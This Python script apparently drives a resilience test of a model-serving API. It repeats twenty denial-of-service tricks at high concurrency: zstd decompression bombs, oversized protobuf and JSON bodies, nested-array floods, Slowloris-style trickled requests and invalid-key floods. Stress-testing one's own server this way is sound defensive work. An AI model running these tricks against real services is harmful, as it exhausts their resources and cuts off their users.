"""The attackers of attacks.py: a process runs several projects, which each repeat one trick."""

from __future__ import annotations

import asyncio
import json
import secrets
import signal
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from functools import cache
from typing import Any
from urllib.parse import urlsplit

import httpx
import zstandard

MEBIBYTE = 2**20

Trick = Callable[["Attacker"], Awaitable[int]]


class Attacker:
    """One project that repeats a trick."""

    def __init__(self, url: str, key: str, http: httpx.AsyncClient) -> None:
        self.url = url
        self.http = http
        self.headers = {"X-API-Key": key, "Content-Type": "application/json"}
        self.session = ""
        self.sampler = ""
        self.seq = 0

    async def prepare(self, model: str) -> None:
        """Open a session and a sampler."""
        self.session = (await self._call("create_session", {"sdk_version": "0"}))["session_id"]
        opened = {"session_id": self.session, "sampling_session_seq_id": 0, "base_model": model}
        self.sampler = (await self._call("create_sampling_session", opened))["sampling_session_id"]

    async def _call(self, path: str, body: Any) -> Any:
        answer = await self.http.post(f"/api/v1/{path}", json=body, headers=self.headers)
        return answer.raise_for_status().json()

    async def send(self, path: str, content: bytes, **headers: str) -> int:
        """POST a body, and return the status."""
        answer = await self.http.post(path, content=content, headers={**self.headers, **headers})
        return answer.status_code

    def sample(self, tokens: bytes, params: Any = None) -> bytes:
        """The body of a sample request. tokens: token ids, as JSON."""
        self.seq += 1
        address = {"sampling_session_id": self.sampler, "seq_id": self.seq, "sampling_params": params or {}}
        return json.dumps(address).encode()[:-1] + b', "prompt": {"chunks": [{"tokens": [' + tokens + b"]}]}}"


@cache
def many_tokens(count: int) -> bytes:
    """`count` + 1 token ids, as JSON."""
    return b"1," * count + b"1"


@cache
def bomb() -> bytes:
    """A zstd frame of a few KB that decompresses to nearly the largest body that is allowed."""
    return zstandard.ZstdCompressor().compress(bytes(255 * MEBIBYTE))


@cache
def training() -> bytes:
    """A protobuf forward_backward request with 160 MiB in an unknown field."""
    address = b"\x0a\x0e" + b"nobody:train:0" + b"\x10\x01"  # model_id, seq_id
    return address + b"\xfa\xff\x01" + b"\x80\x80\x80\x50" + bytes(160 * MEBIBYTE)


async def zstd_bombs(one: Attacker) -> int:
    return await one.send("/api/v1/asample", bomb(), **{"Content-Encoding": "zstd"})


async def zstd_training(one: Attacker) -> int:
    return await one.send("/api/v1/forward_backward", bomb(), **{"Content-Encoding": "zstd"})


async def large_training(one: Attacker) -> int:
    return await one.send("/api/v1/forward_backward", training())


async def large_samples(one: Attacker) -> int:
    return await one.send("/api/v1/asample", one.sample(many_tokens(24 * MEBIBYTE)))


async def medium_samples(one: Attacker) -> int:
    return await one.send("/api/v1/asample", one.sample(many_tokens(3 * MEBIBYTE)))


async def nested_chats(one: Attacker) -> int:
    return await one.send("/v1/chat/completions", b'{"messages": [' + b"[]," * MEBIBYTE + b"[]]}")


async def huge_names(one: Attacker) -> int:
    body = {"sdk_version": "0", "display_name": "x" * (20 * MEBIBYTE), "tags": ["t"] * 100_000}
    return await one.send("/api/v1/create_session", json.dumps(body).encode())


async def many_sessions(one: Attacker) -> int:
    metadata = {str(number): "x" * 60 for number in range(250)}
    return await one.send(
        "/api/v1/create_session", json.dumps({"sdk_version": "0", "user_metadata": metadata}).encode()
    )


async def many_samples(one: Attacker) -> int:
    return await one.send("/api/v1/asample", one.sample(b"5, 6, 7", {"max_tokens": 512}))


async def long_schemas(one: Attacker) -> int:
    words = [secrets.token_hex(8) for _ in range(2000)]
    constraint = {"type": "json_schema", "value": {"enum": words}}
    return await one.send("/api/v1/asample", one.sample(b"5", {"max_tokens": 8, "constraint": constraint}))


async def long_texts(one: Attacker) -> int:
    body = {"model": "x", "prompt": ["word " * 20_000] * 10, "max_tokens": 1}
    return await one.send("/v1/completions", json.dumps(body).encode())


async def dates_without_end(one: Attacker) -> int:
    answer = await one.http.get("/api/v1/audit?day=9999-12-31", headers=one.headers)
    return answer.status_code


async def unknown_keys(one: Attacker) -> int:
    answer = await one.http.get("/v1/models", headers={"X-API-Key": f"tml-{secrets.token_urlsafe(32)}"})
    return answer.status_code


async def half_requests(one: Attacker) -> int:
    return await _trickle(one, "GET /api/v1/sessions HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", b"x")


async def slow_bodies(one: Attacker) -> int:
    head = f"POST /api/v1/forward_backward HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {one.headers['X-API-Key']}\r\n"
    return await _trickle(one, f"{head}Content-Length: {250 * MEBIBYTE}\r\n\r\n", bytes(16 * 1024))


async def readers_that_do_not_read(one: Attacker) -> int:
    return await _trickle(one, "GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100, b"")


async def _trickle(one: Attacker, begin: str, more: bytes) -> int:
    """Send the beginning of a request, then a bit more each second until the server closes it; return 0."""
    address = urlsplit(one.url)
    reader, writer = await asyncio.open_connection(address.hostname, address.port, limit=1)
    try:
        writer.write(begin.encode())
        for _ in range(60):
            await writer.drain()
            await asyncio.sleep(1.0)
            writer.write(more)
            if reader.at_eof():
                break
    except ConnectionError:
        pass
    finally:
        writer.transport.abort()
    return 0


# Each trick with its number of concurrent requests.
TRICKS: list[tuple[Trick, int]] = [
    (zstd_bombs, 16), (zstd_bombs, 16), (zstd_training, 16), (large_training, 4), (large_samples, 8),
    (large_samples, 8), (medium_samples, 16), (medium_samples, 16), (nested_chats, 16), (huge_names, 8),
    (many_sessions, 16), (many_samples, 64), (many_samples, 64), (long_schemas, 8), (long_texts, 16),
    (dates_without_end, 16), (unknown_keys, 32), (half_requests, 500), (slow_bodies, 16),
    (readers_that_do_not_read, 16),
]  # fmt: skip


async def attack(url: str, model: str, keys: dict[int, str]) -> None:
    """Repeat tricks until SIGTERM, then print the counts of their answers. keys: API keys by number of the trick."""
    limits = httpx.Limits(max_connections=None, max_keepalive_connections=None)
    stop, answers = asyncio.Event(), {number: Counter[str]() for number in keys}
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)

    async def repeat(trick: Trick, attacker: Attacker, answered: Counter[str]) -> None:
        while True:
            try:
                answered[str(await trick(attacker))] += 1
            except (httpx.HTTPError, OSError) as error:
                answered[type(error).__name__] += 1
                await asyncio.sleep(0.1)

    async with httpx.AsyncClient(base_url=url, timeout=120, limits=limits) as http:
        attackers = {number: Attacker(url, key, http) for number, key in keys.items()}
        for attacker in attackers.values():
            await attacker.prepare(model)
        print("ready", flush=True)
        await asyncio.to_thread(sys.stdin.readline)  # until all are ready
        tasks = [
            asyncio.create_task(repeat(TRICKS[number][0], attacker, answers[number]))
            for number, attacker in attackers.items()
            for _ in range(TRICKS[number][1])
        ]
        await stop.wait()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
    for number, answered in answers.items():
        print(f"  {TRICKS[number][0].__name__}: {dict(answered)}", flush=True)


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[2], {int(n): key for n, key in json.loads(sys.argv[3]).items()}))
